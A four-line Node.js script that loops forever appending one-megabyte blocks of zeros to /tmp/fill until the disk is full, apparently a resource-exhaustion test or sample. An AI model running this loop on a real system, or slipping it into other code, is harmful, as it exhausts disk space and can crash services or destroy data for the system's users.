const fs = require('fs');
while (1) {
  fs.appendFileSync('/tmp/fill', Buffer.alloc(1 << 20));
}
